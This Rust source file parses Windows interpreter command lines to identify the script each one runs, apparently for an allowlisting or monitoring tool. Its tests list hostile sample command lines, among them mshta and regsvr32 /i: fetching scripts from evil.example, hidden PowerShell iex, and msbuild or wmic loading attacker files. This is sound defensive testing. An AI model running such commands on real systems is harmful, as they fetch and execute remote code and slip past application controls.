//! Which script an interpreter of Windows runs: those that Windows brings, each with a command line of its own kind, and
//! those that are known from elsewhere. As elsewhere, a command line that is not wholly understood is known by all of it.

use super::name::{HANDED_OVER, inline, unclear};
use super::{Invocation, NO_ARGUMENTS, of_family};
use crate::processes::nt;
use crate::rule::is_windows_path;
use crate::text::Text;

/// The programs of Windows that run what their arguments name, and of which more than one kind of argument does: they are
/// known by all of them.
const LOADERS: &[&str] = &[
    "cmstp",
    "control",
    "hh",
    "installutil",
    "mavinject",
    "msiexec",
    "odbcconf",
    "py",
    "pyw",
    "regasm",
    "regsvcs",
    "wmic",
    "wsl",
];

/// The script that the executable at `exe` runs, given its whole command line; `None` if `exe` is no interpreter or runs
/// nothing but what a person types.
#[must_use]
pub fn find(exe: &[u8], line: &[u8], invocation: &Invocation) -> Option<Text> {
    let base = exe.rsplit(|byte| matches!(byte, b'\\' | b'/')).next()?.to_ascii_lowercase();
    let base = base.strip_suffix(b".exe").unwrap_or(&base);
    let all = nt::parse_command_line(line);
    let all: Vec<&[u8]> = all.iter().map(Vec::as_slice).collect();
    let args = all.get(1..).unwrap_or_default();
    let rest = nt::program(line).1.trim_ascii();
    let run = match base {
        b"powershell" | b"pwsh" => power_shell(base == b"pwsh", args),
        b"cmd" => command_shell(rest),
        b"wscript" | b"cscript" => script_host(args),
        b"mshta" | b"rundll32" if rest.is_empty() => Run::Nothing,
        b"mshta" => html(args, rest),
        b"rundll32" => Run::Text(b"", rest.to_vec()),
        b"regsvr32" => library(args),
        b"msbuild" => project(args),
        // The service of the installer has this one argument; what else it is told to do, it does with files.
        b"msiexec" if matches!(args, [only] if only.eq_ignore_ascii_case(b"/v")) => Run::Nothing,
        name if LOADERS.iter().any(|loader| loader.as_bytes() == name) && !args.is_empty() => Run::Unclear,
        name if LOADERS.iter().any(|loader| loader.as_bytes() == name) => Run::Nothing,
        b"javaw" => return of_family(b"java", &all, invocation),
        b"pythonw" => return of_family(b"python", &all, invocation),
        name => return of_family(name, &all, invocation),
    };
    if all.is_empty() {
        return Some(NO_ARGUMENTS.into());
    }
    match run {
        Run::Nothing => None,
        Run::Input => Some(HANDED_OVER.into()),
        Run::File(path) => Some(Text::cut(&without_dots(path), 4096)),
        Run::Text(option, text) => Some(inline(option, &text)),
        Run::Unclear => Some(unclear(&all)),
    }
}

/// What a command line comes to.
enum Run<'a> {
    /// Nothing but what is typed.
    Nothing,
    /// What comes over the standard input.
    Input,
    /// This file.
    File(&'a [u8]),
    /// This text, with the option that says what it is.
    Text(&'static [u8], Vec<u8>),
    /// It is not understood.
    Unclear,
}

/// The parameters of PowerShell, each with the shortest form of its name that is taken; a longer one may end anywhere.
const PARAMETERS: &[(&str, &str, Parameter)] = &[
    ("command", "c", Parameter::Command),
    ("file", "f", Parameter::File),
    ("encodedcommand", "e", Parameter::Encoded),
    ("ec", "ec", Parameter::Encoded),
    ("executionpolicy", "ex", Parameter::Value),
    ("ep", "ep", Parameter::Value),
    ("inputformat", "inp", Parameter::Value),
    ("if", "if", Parameter::Value),
    ("outputformat", "o", Parameter::Value),
    ("of", "of", Parameter::Value),
    ("version", "v", Parameter::Value),
    ("windowstyle", "w", Parameter::Value),
    ("nologo", "nol", Parameter::Plain),
    ("noexit", "noe", Parameter::Plain),
    ("noprofile", "nop", Parameter::Plain),
    ("noninteractive", "noni", Parameter::Plain),
    ("noprofileloadtime", "noprofilel", Parameter::Plain),
    ("sta", "s", Parameter::Plain),
    ("mta", "m", Parameter::Plain),
];

#[derive(Clone, Copy)]
enum Parameter {
    Command,
    File,
    Encoded,
    Value,
    Plain,
}

fn power_shell<'a>(is_core: bool, args: &[&'a [u8]]) -> Run<'a> {
    let mut encoded = None;
    let mut at = 0;
    while let Some(arg) = args.get(at).copied() {
        let behind = args.get(at + 1..).unwrap_or_default();
        at += 1;
        let Some(name) = parameter_name(arg) else {
            return match encoded {
                Some(_) => Run::Unclear,
                // What stands alone is a command to the old one, and a script to the new one.
                None if is_core => Run::File(arg),
                None => command(args.get(at - 1..).unwrap_or_default()),
            };
        };
        let found = PARAMETERS
            .iter()
            .find(|(whole, least, _)| name.starts_with(least) && whole.starts_with(name.as_str()))
            .map(|(_, _, parameter)| *parameter);
        match (found, behind.first()) {
            (Some(Parameter::Plain), _) => {}
            (Some(Parameter::Value), Some(_)) => at += 1,
            (Some(Parameter::Command), Some(_)) if encoded.is_none() => return command(behind),
            (Some(Parameter::File), Some(path)) if encoded.is_none() => {
                return if *path == b"-" { Run::Input } else { Run::File(path) };
            }
            (Some(Parameter::Encoded), Some(text)) if encoded.is_none() => {
                let Some(text) = decode(text) else { return Run::Unclear };
                encoded = Some(text);
                at += 1;
            }
            _ => return Run::Unclear,
        }
    }
    encoded.map_or(Run::Nothing, |text| Run::Text(b"-EncodedCommand ", text))
}

fn command<'a>(words: &[&[u8]]) -> Run<'a> {
    match words {
        [b"-"] => Run::Input,
        words => Run::Text(b"-Command ", words.join(&b' ')),
    }
}

/// The name of a parameter, without what marks it as one: a slash, or any of the dashes that PowerShell takes.
fn parameter_name(arg: &[u8]) -> Option<String> {
    let arg = std::str::from_utf8(arg).ok()?;
    let name = arg.strip_prefix(['-', '/', '\u{2013}', '\u{2014}', '\u{2015}'])?;
    let name = name.strip_prefix('-').unwrap_or(name);
    (!name.is_empty()).then(|| name.to_ascii_lowercase())
}

/// Base64 of UTF-16, as a person reads it.
fn decode(text: &[u8]) -> Option<Vec<u8>> {
    let mut bytes = Vec::with_capacity(text.len() / 4 * 3);
    let text = text.trim_ascii_end();
    let end = text.iter().rposition(|byte| *byte != b'=').map_or(0, |at| at + 1);
    let (mut bits, mut count) = (0_u32, 0);
    for byte in text.get(..end)? {
        let value = match byte {
            b'A'..=b'Z' => byte - b'A',
            b'a'..=b'z' => byte - b'a' + 26,
            b'0'..=b'9' => byte - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            _ => return None,
        };
        bits = bits << 6 | u32::from(value);
        count += 6;
        if count >= 8 {
            count -= 8;
            bytes.push(u8::try_from(bits >> count & 0xff).ok()?);
        }
    }
    let (units, odd) = bytes.as_chunks();
    let units: Vec<u16> = units.iter().map(|unit| u16::from_le_bytes(*unit)).collect();
    let text = String::from_utf16(&units).ok()?;
    (odd.is_empty() && !text.is_empty()).then(|| text.into_bytes())
}

/// `cmd` reads its line itself: switches, of which each may stand right behind the one before, and after the first `/c` or
/// `/k` a command.
fn command_shell<'a>(line: &[u8]) -> Run<'a> {
    let mut rest = line.trim_ascii_start();
    if rest.is_empty() {
        return Run::Nothing;
    }
    while let [b'/', letter, behind @ ..] = rest {
        rest = match letter.to_ascii_lowercase() {
            // /r is what /c was called once.
            b'c' | b'r' => return Run::Text(b"/c ", behind.trim_ascii().to_vec()),
            b'k' => return Run::Text(b"/k ", behind.trim_ascii().to_vec()),
            b's' | b'q' | b'd' | b'a' | b'u' => behind,
            b't' | b'e' | b'f' | b'v' if behind.starts_with(b":") => {
                let end = behind.iter().position(|byte| matches!(byte, b' ' | b'/')).unwrap_or(behind.len());
                behind.get(end..).unwrap_or_default()
            }
            _ => return Run::Unclear,
        };
        rest = rest.trim_ascii_start();
        if rest.is_empty() {
            return Run::Nothing;
        }
    }
    Run::Unclear
}

/// The options of the script host begin with two slashes.
fn script_host<'a>(args: &[&'a [u8]]) -> Run<'a> {
    for arg in args {
        let Some(option) = arg.strip_prefix(b"//") else {
            return if arg.starts_with(b"/") { Run::Unclear } else { Run::File(arg) };
        };
        let option = option.to_ascii_lowercase();
        let is_known =
            matches!(&*option, b"b" | b"i" | b"logo" | b"nologo" | b"u") || option.starts_with(b"t:");
        if !is_known {
            return Run::Unclear;
        }
    }
    Run::Nothing
}

/// A page is a file, or anything that a browser would open.
fn html<'a>(args: &[&'a [u8]], line: &[u8]) -> Run<'a> {
    match args {
        [path] if is_windows_path(&String::from_utf8_lossy(path)) => Run::File(path),
        _ => Run::Text(b"", line.to_vec()),
    }
}

/// The library that is registered by running it. With `/i` and `/n` it is given text that may name something else.
fn library<'a>(args: &[&'a [u8]]) -> Run<'a> {
    let (options, files): (Vec<&[u8]>, Vec<&'a [u8]>) =
        args.iter().partition(|arg| arg.starts_with(b"/") || arg.starts_with(b"-"));
    let is_known = |option: &[u8]| matches!(option.get(1..), Some(b"s" | b"S" | b"u" | b"U"));
    match files.as_slice() {
        [] if options.is_empty() => Run::Nothing,
        [path] if options.iter().all(|option| is_known(option)) => Run::File(path),
        _ => Run::Unclear,
    }
}

/// A project holds what is run. Most options can change what that is.
fn project<'a>(args: &[&'a [u8]]) -> Run<'a> {
    let (options, files): (Vec<&[u8]>, Vec<&'a [u8]>) =
        args.iter().partition(|arg| arg.starts_with(b"/") || arg.starts_with(b"-"));
    let is_known = |option: &[u8]| {
        let name = option.get(1..).unwrap_or_default().split(|byte| *byte == b':').next().unwrap_or_default();
        let name = name.to_ascii_lowercase();
        matches!(&*name, b"nologo" | b"m" | b"maxcpucount" | b"v" | b"verbosity" | b"nr" | b"nodereuse")
    };
    match files.as_slice() {
        [path] if !path.starts_with(b"@") && options.iter().all(|option| is_known(option)) => Run::File(path),
        _ => Run::Unclear,
    }
}

/// A whole path of Windows without `.` and `..`; anything else as it is.
pub fn without_dots(path: &[u8]) -> Vec<u8> {
    let shown = String::from_utf8_lossy(path);
    if !is_windows_path(&shown) || path.starts_with(br"\\") {
        return path.to_vec();
    }
    let mut parts: Vec<&[u8]> = Vec::new();
    for part in path.split(|byte| matches!(byte, b'\\' | b'/')) {
        match part {
            b"" | b"." => {}
            // Nothing is above a drive.
            b".." => parts.truncate(parts.len().saturating_sub(1).max(1)),
            part => parts.push(part),
        }
    }
    parts.join(&b'\\')
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::processes::script::find_on_windows;
    use proptest::prelude::*;

    fn script(exe: &str, rest: &str) -> Option<String> {
        let nothing = || None;
        let invocation = Invocation {
            folder: &|| crate::processes::script::Folder::Unseen,
            input: &nothing,
            without_dots: &|_| None,
        };
        let exe = format!(r"C:\Windows\System32\{exe}.exe");
        let line = format!("\"{exe}\" {rest}");
        find_on_windows(exe.as_bytes(), line.as_bytes(), &invocation).map(|text| text.to_string())
    }

    #[test]
    fn an_interpreter_of_windows_is_named_with_its_script() {
        for (exe, rest, expected) in [
            ("svchost", "-k netsvcs -p", None),
            ("powershell", "", None),
            ("powershell", "-NoLogo -NoExit", None),
            (
                "PowerShell",
                r#"-NoP -ExecutionPolicy Bypass -File "C:\My Jobs\..\a.ps1" -X y"#,
                Some(r"C:\a.ps1"),
            ),
            ("powershell", r"/f C:\a.ps1", Some(r"C:\a.ps1")),
            ("powershell", r"-nop -w hidden -c iex $x", Some("-Command iex $x")),
            ("powershell", "-Command -", Some("(standard input)")),
            ("powershell", r"C:\a.ps1 -x", Some(r"-Command C:\a.ps1 -x")),
            ("pwsh", r"C:\a.ps1 -x", Some(r"C:\a.ps1")),
            ("powershell", "-enc ZABpAHIA", Some("-EncodedCommand dir")),
            ("powershell", "\u{2013}e ZABpAHIA -nop", Some("-EncodedCommand dir")),
            ("cmd", "", None),
            ("cmd", "/q /k prompt $g", Some("/k prompt $g")),
            ("cmd", r#"/d /s /c "C:\a b.cmd" x"#, Some(r#"/c "C:\a b.cmd" x"#)),
            ("cmd", r"/V:ON/Cdir", Some("/c dir")),
            ("wscript", r"//B //Nologo C:\a.vbs x", Some(r"C:\a.vbs")),
            ("mshta", r#""C:\a b.hta""#, Some(r"C:\a b.hta")),
            ("mshta", "http://evil.example/x.hta", Some("http://evil.example/x.hta")),
            ("rundll32", r"C:\x.dll,Entry 1", Some(r"C:\x.dll,Entry 1")),
            ("regsvr32", r"/s C:\x.dll", Some(r"C:\x.dll")),
            ("msbuild", r"/nologo /m:4 C:\x.proj", Some(r"C:\x.proj")),
            ("msiexec", "/V", None),
            ("python", r"-u C:\a.py x", Some(r"C:\a.py")),
            ("pythonw", r"-m http.server", Some("-m http.server")),
            ("node", r"C:/srv/a.js", Some(r"C:\srv\a.js")),
            ("javaw", r"-Xmx1g -jar D:\app.jar", Some(r"D:\app.jar")),
            ("python", "a.py", Some("a.py")),
        ] {
            assert_eq!(script(exe, rest).as_deref(), expected, "{exe} {rest}");
        }
    }

    /// Each is one way to run another script behind the name of an allowed one.
    #[test]
    fn a_command_line_of_windows_that_is_not_understood_is_known_by_all_of_it() {
        for (exe, rest) in [
            ("powershell", r"-PSConsoleFile C:\evil.psc1 -File C:\ok.ps1"),
            ("powershell", r"-enc ZABpAHIA -File C:\ok.ps1"),
            ("powershell", r"-enc ZABpAHIA C:\ok.ps1"),
            ("powershell", "-enc ZABpAHIA -enc aQBkAA=="),
            ("powershell", "-enc ZABpAHI"),
            ("pwsh", r"-SettingsFile C:\evil.json -File C:\ok.ps1"),
            ("cmd", "/z /c dir"),
            ("cmd", "dir"),
            ("wscript", r"//E:jscript C:\ok.vbs"),
            ("wscript", r"//Job:x C:\ok.wsf"),
            ("regsvr32", r"/s /i:http://evil.example/x.sct scrobj.dll"),
            ("regsvr32", r"C:\ok.dll C:\evil.dll"),
            ("msbuild", r"C:\ok.proj /p:CustomBeforeMicrosoftCommonTargets=C:\evil.targets"),
            ("msbuild", "@evil.rsp"),
            ("msiexec", r"/i C:\evil.msi /qn"),
            ("wmic", r"os get /format:C:\evil.xsl"),
            ("py", r"-3 C:\a.py"),
            ("node", r"-r C:\evil.js C:\ok.js"),
        ] {
            let found = script(exe, rest).unwrap_or_default();
            assert!(found.starts_with("(unclear) "), "{exe} {rest}: {found}");
            assert_ne!(found, script(exe, &format!("{rest}2")).unwrap_or_default(), "{exe} {rest}");
        }
    }

    #[test]
    fn an_interpreter_of_windows_that_shows_nothing_was_made_to() {
        let nothing = || None;
        let invocation = Invocation {
            folder: &|| crate::processes::script::Folder::Unseen,
            input: &nothing,
            without_dots: &|_| None,
        };
        for exe in [r"C:\Windows\System32\cmd.exe", r"C:\Python\python.exe", r"C:\x\powershell.exe"] {
            assert_eq!(find_on_windows(exe.as_bytes(), b"", &invocation).unwrap(), NO_ARGUMENTS, "{exe}");
        }
        assert_eq!(find_on_windows(br"C:\x\svchost.exe", b"", &invocation), None);
    }

    proptest! {
        #[test]
        fn any_command_line_of_windows_is_survived(line: Vec<u8>, exe in "[a-z]{1,3}|powershell|pwsh|cmd|mshta|regsvr32|python") {
            let nothing = || None;
            let invocation = Invocation { folder: &|| crate::processes::script::Folder::Unseen, input: &nothing, without_dots: &|_| None };
            let _ = find_on_windows(format!(r"C:\{exe}.exe").as_bytes(), &line, &invocation);
        }
    }
}
